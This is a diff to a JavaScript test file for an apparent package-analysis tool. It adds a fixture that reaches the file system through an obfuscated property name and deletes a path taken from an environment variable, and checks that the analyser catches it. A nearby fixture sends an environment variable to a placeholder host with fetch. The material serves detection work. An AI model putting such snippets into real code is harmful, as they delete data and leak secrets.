@@ -354,6 +354,10 @@ describe('going through a package step by step', () => {
 
   it('goes through nothing that only asks where it runs: there is nowhere to bring that to', () => {
     assert.deepEqual(symbolicModule({ 'index.js': `exports.level = process.env.LEVEL ?? require('os').platform();` }).uses, []);
+    const hidden = symbolicModule({
+      'index.js': `const at = process.env.LEVEL ?? 'a'; process[['getBuiltin', 'Module'].join('')]('fs').rmSync(at);`,
+    });
+    assert.ok(hidden.uses.some(({ path }) => path === 'rmSync'));
     const sent = symbolicModule({ 'index.js': `fetch('https://a.invalid/' + process.env.LEVEL);` });
     assert.deepEqual(
       sent.uses.map(({ path }) => path),
